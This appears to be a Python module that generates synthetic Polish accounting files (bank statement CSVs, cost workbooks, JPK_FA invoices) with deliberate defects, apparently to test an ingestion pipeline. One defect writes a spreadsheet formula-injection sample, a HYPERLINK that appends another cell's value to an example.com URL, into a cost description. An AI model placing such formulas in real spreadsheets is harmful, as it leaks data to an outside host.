"""What the accounting office and the bank drop into a folder: statements (CSV), costs (Excel), JPK_FA(4).

Files come as people send them: statements in five encodings, some packed or with rows above the header and below the
data, sheets with merged cells, durations, percent, TAK and NIE, days as numbers.

JPK_FA(4): http://jpk.mf.gov.pl/wzor/2022/02/17/02171/, order of elements as in the Ministry's schema. The same folder
can be read as a bucket of an S3-compatible store (s3_bucket.py) below /accounting.
"""

from __future__ import annotations

import csv
import gzip
import os
import random
import zipfile
from collections.abc import Iterator
from datetime import date, timedelta
from decimal import Decimal
from io import BytesIO, StringIO
from zlib import crc32

import openpyxl

from sandbox.accounting.jpk import company, jpk
from sandbox.files import s3_bucket
from sandbox.files.dropped_files import Batch, Dropped, batches, bring_up
from sandbox.stand_in import StandIn
from sandbox.white_list.api import bank_account
from sandbox.world import Book, Entry, World, business, identifiers
from sandbox.world.book import KEY_CONFLICT, KEY_TOO_LONG
from sandbox.world.business import OUR_NIP
from sandbox.world.spelling import abbreviated

ACCESS_KEY, SECRET_KEY = "ONEFOLDSANDBOX", "sandbox-secret"
STATEMENT = 40  # payments in one bank statement, by their numbers
LINES = int(os.environ.get("SANDBOX_ACCOUNTING_PAGE", "500"))  # entries in one workbook, invoices in one JPK file
ACCOUNTS = ("401-01", "402-01", "402-02", "409-10", "411-01")
COSTS = ("Energia elektryczna", "Usługi telekomunikacyjne", "Paliwo", "Materiały biurowe", "Czynsz", "Usługi prawne")
OUR_ACCOUNTS = {"PLN": "61109010140000071219812874", "EUR": "27114020040000300201355387"}
EXCEL_DAY_0 = date(1899, 12, 30)
ENCODINGS = ("cp1250", "utf-8", "cp1250", "iso-8859-2", "cp1250", "utf-8-sig", "cp852", "utf-16")
PACKED = ("", "", "", "", "", "", ".gz", ".zip")
OPENINGS = ("- ", "-10% rabat, ", "% ", "@ ")
"""How a text may begin that is no formula."""
BANK_COLUMNS = (
    "nr_wyciagu", "lp", "data_ksiegowania", "kwota", "waluta", "rachunek_wlasny", "kontrahent", "rachunek", "tytul",
    "opis",
)  # fmt: skip
COST_COLUMNS = (
    "nr_dowodu", "data", "konto", "mpk", "nip_dostawcy", "dostawca", "opis", "netto", "vat", "brutto", "waluta",
    "stawka_vat", "termin", "zaplacono", "czas_pracy",
)  # fmt: skip
CURRENCY, RATE = COST_COLUMNS.index("waluta") + 1, COST_COLUMNS.index("stawka_vat") + 1
NET = COST_COLUMNS.index("netto")
Cells = tuple[str | date | float | bool | timedelta | None, ...]


def _paid_to_the_bank(seed: int, number: int, companies: int) -> bool:
    return business.payment(seed, number, companies=companies) is not None


BANK = Book(
    "accounting", "bank_line",
    size=lambda companies: business.orders(companies) * 3 // 4,
    number=lambda place: place // 3 * 4 + place % 3,
    key=str, named=lambda seed, n, companies: _bank_key(business.order(seed, n, companies=companies)),
    exists=_paid_to_the_bank,
    broken=("amount_malformed", "currency_malformed", "date_impossible"), deletes=False,
    odd={KEY_TOO_LONG: 0.006, KEY_CONFLICT: 0.006},
)  # fmt: skip
COST = Book(
    "accounting", "account_entry", size=lambda companies: min(business.orders(companies) // 2, 5_000),
    key=str, named=lambda seed, n, companies: _cost_key(seed, n, companies),  # noqa: PLW0108 - it is defined below
    broken=("formula_in_text", "net_malformed", "amount_missing"), odd={KEY_CONFLICT: 0.006, "amount_missing": 0.012},
    deletes=False,
)  # fmt: skip
INVOICE = Book(
    "accounting", "jpk_invoice", size=business.orders, key=str,
    named=lambda seed, n, companies: (business.invoice(seed, n, companies=companies).reference, OUR_NIP, "VAT"),
    broken=("currency_malformed", "total_malformed"), changes=False, deletes=False,
)  # fmt: skip


def _bank_key(of: business.Order) -> tuple[str, str, str]:
    """Both of our accounts number their statements and lines by themselves; those in EUR count down here."""
    place = of.number % STATEMENT
    number = STATEMENT - place if of.currency == "EUR" else place + 1
    return f"WB/{of.number // STATEMENT + 1:05d}", str(number), OUR_ACCOUNTS[of.currency]


def _document(number: int) -> int:
    """The cost document of an entry: every tenth is split over two accounts."""
    return number - 1 if number % 10 == 9 else number


def _supplier(seed: int, document: int, companies: int) -> int:
    """One of the ERP's suppliers."""
    return random.Random(f"{seed}:supplier:{document}").randrange(min(companies, max(60, companies // 6)))


def _cost_key(seed: int, number: int, companies: int) -> tuple[str, str, str, str]:
    """The document's number, which two suppliers may have chosen alike, its supplier, account and cost centre."""
    document = _document(number)
    rng = random.Random(f"{seed}:account:{document}")
    account = rng.randrange(len(ACCOUNTS)) + number - document
    name = f"FV {document // 50 + 1}/2026" if document % 50 in (10, 20) else f"KP/{document + 1:06d}"
    supplier = identifiers.nip(_supplier(seed, document, companies))
    return name, supplier, ACCOUNTS[account % len(ACCOUNTS)], rng.choice(business.DEPARTMENTS)


def _files(world: World) -> list[Dropped]:
    files = [_statement(world, each) for each in batches(world, BANK.name, lambda entry, _: entry.number // STATEMENT)]
    files += [_workbook(world, each) for each in batches(world, COST.name, lambda _, place: place // LINES)]
    files += [jpk(world, each) for each in batches(world, INVOICE.name, lambda _, place: place // LINES)]
    return files


def _statement(world: World, batch: Batch) -> Dropped:
    name = f"WB_{batch.number + 1:05d}{batch.suffix}.csv"
    encoding, ending, framed = written_as(name)

    def content() -> bytes:
        text = StringIO()
        writer = csv.writer(text, delimiter=";", lineterminator="\r\n")
        if framed:
            writer.writerows([("Bank Przykładowy SA",), ("Wyciąg", name), ()])
        writer.writerow(BANK_COLUMNS)
        writer.writerows(row for entry in batch.entries for row in _lines(world, entry, batch.sequence))
        if framed:
            writer.writerows([(), ("Razem", len(batch.entries)), ("Sporządził: Dział Obsługi",)])
        return _packed(name, _encoded(text.getvalue(), encoding), ending)

    return Dropped(f"wyciagi/{name}{ending}", batch.modified, content)


def statement_name(number: int) -> str:
    """The first file that holds payment `number`."""
    return f"WB_{number // STATEMENT + 1:05d}.csv"


def written_as(name: str) -> tuple[str, str, bool]:
    """A statement's encoding, what its name ends with when it is packed, and whether rows stand around the data."""
    draw = crc32(name.encode())
    return ENCODINGS[draw % len(ENCODINGS)], PACKED[draw // 16 % len(PACKED)], draw // 256 % 4 == 0


def _encoded(text: str, encoding: str) -> bytes:
    """The text as a bank writes it that knows CP1250; in another encoding where that has all of its letters."""
    usual = text.encode("cp1250", errors="replace")
    try:
        return usual.decode("cp1250").encode(encoding)
    except UnicodeEncodeError:
        return usual


def _packed(name: str, content: bytes, ending: str) -> bytes:
    if ending == ".gz":
        return gzip.compress(content, mtime=0)
    if ending == ".zip":
        file = BytesIO()
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(zipfile.ZipInfo(name), content)
        return file.getvalue()
    return content


def _lines(world: World, entry: Entry, sequence: int) -> Iterator[tuple[str, ...]]:
    """The payment's line; where the bank numbers its fee as the payment, the fee's too."""
    line = bank_cells(world, entry, sequence)
    yield line
    if entry.broken == KEY_CONFLICT:
        yield (*line[:3], "-2,50", *line[4:8], "PROWIZJA ZA PRZELEW", "OPŁATA")


def bank_cells(world: World, entry: Entry, sequence: int) -> tuple[str, ...]:
    """The line of a payment after advance number `sequence`, by BANK_COLUMNS."""
    payment = business.payment(world.seed, entry.number, companies=world.base_size)
    state = entry.at(sequence)
    if payment is None or state is None:
        raise ValueError(f"payment {entry.number} does not exist")
    revision, payer = state[2], payment.invoice.order.company
    name = abbreviated(company(world.seed, payer).name, random.Random(entry.number).random()).upper()
    amount = f"{payment.amount:,.2f}".replace(",", "\u00a0" if entry.number % 2 else " ").replace(".", ",")
    statement, place, account = entry.key
    return (
        f"{statement} {name} " * 80 if entry.broken == KEY_TOO_LONG else str(statement),  # pasted into the wrong column
        str(place),
        "31.02.2026" if entry.broken == "date_impossible" else f"{payment.day:%d.%m.%Y}",
        f"{amount[:-1]}O" if entry.broken == "amount_malformed" else amount,
        "zł" if entry.broken == "currency_malformed" else payment.invoice.order.currency,
        str(account),
        name,
        bank_account(world.seed, payer, 0),
        payment.invoice.reference,
        _described(
            "PRZELEW PRZYCHODZĄCY" + (f", KOREKTA {revision - 1}" if revision > 1 else ""), f"{statement}/{place}"
        ),
    )


def _described(what: str, key: str) -> str:
    """The text, now and then written as the bank's people do; which, the record's own key says."""
    draw = crc32(key.encode())
    return f"{OPENINGS[draw // 8 % len(OPENINGS)]}{what}" if draw % 8 == 0 else what


def _workbook(world: World, batch: Batch) -> Dropped:
    def content() -> bytes:
        book, file = openpyxl.Workbook(), BytesIO()
        sheet = book.worksheets[0]
        sheet.title = "Koszty"
        sheet.append(["Zestawienie kosztów"])
        sheet.append([])
        sheet.append(COST_COLUMNS)
        merged = 0  # the last row whose currency stands in the row above
        written = [(entry, values) for entry in batch.entries for values in _costs(world, entry, batch.sequence)]
        for row, (entry, values) in enumerate(written, start=4):
            above = row > 4 and row - 1 > merged and crc32(str(entry.key).encode()) % 16 == 0
            if above:
                sheet.append(
                    [None if name == "waluta" else value for name, value in zip(COST_COLUMNS, values, strict=True)]
                )
                sheet.merge_cells(start_row=row - 1, end_row=row, start_column=CURRENCY, end_column=CURRENCY)
                merged = row
            else:
                sheet.append(values)
            if isinstance(values[RATE - 1], float):
                sheet.cell(row, RATE).number_format = "0%"
        sheet.append(["Razem", *[None] * 8, len(batch.entries)])
        book.save(file)
        return file.getvalue()

    return Dropped(f"ksiegi/koszty_{batch.number + 1:04d}{batch.suffix}.xlsx", batch.modified, content)


def _costs(world: World, entry: Entry, sequence: int) -> Iterator[Cells]:
    """The entry's row; where a document's two sums are booked to one account, both rows."""
    cells = cost_cells(world, entry, sequence)
    yield cells
    if entry.broken == KEY_CONFLICT:
        yield (*cells[:NET], 300.0, 69.0, 369.0, *cells[NET + 3 :])


def cost_cells(world: World, entry: Entry, sequence: int) -> Cells:
    """The row of a cost after advance number `sequence`, by COST_COLUMNS."""
    state = entry.at(sequence)
    revision = state[2] if state else 1
    rng = random.Random(f"{world.seed}:cost:{entry.number}")
    document, tax_id, account, department = entry.key
    net = Decimal(rng.randrange(2_000, 900_000)) / 100 + revision - 1
    vat = (net * 23 / 100).quantize(business.CENT)
    what = rng.choice(COSTS)
    day = business.FIRST_DAY + timedelta(days=rng.randrange((business.LAST_DAY - business.FIRST_DAY).days))
    draw = crc32(str(entry.key).encode())
    due = day + timedelta(days=14)
    return (
        str(document),
        day,
        str(account),
        str(department),
        str(tax_id),
        company(world.seed, _supplier(world.seed, _document(entry.number), world.base_size)).name,
        f'=HYPERLINK("http://example.com/?"&A2;"{what}")'
        if entry.broken == "formula_in_text"
        else _described(what, f"KP {document}"),
        "sto złotych" if entry.broken == "net_malformed" else float(net),
        float(vat),
        "" if entry.broken == "amount_missing" else float(net + vat),
        "PLN",
        (0.23, "23%", "23 %")[draw % 3],
        (due, (due - EXCEL_DAY_0).days, "0000-00-00", None)[draw // 4 % 4],
        ("TAK", "NIE", True, None)[draw // 16 % 4],
        timedelta(hours=draw // 64 % 60, minutes=30) if draw // 64 % 8 == 0 else None,
    )


def refresh(world: World) -> None:
    """Bring the folder up to the world; a world that is not on disk has none."""
    if world.home:
        bring_up(world.home / "accounting", world, _files(world))


STAND_IN = StandIn(
    "accounting",
    lambda world: s3_bucket.routes(world.home and world.home / "accounting", ACCESS_KEY, SECRET_KEY),
    sign_in=(ACCESS_KEY, SECRET_KEY),
    extra={"settled_seconds": "0"},
    books=(BANK, COST, INVOICE),
    folder=True,
    refresh=refresh,
)
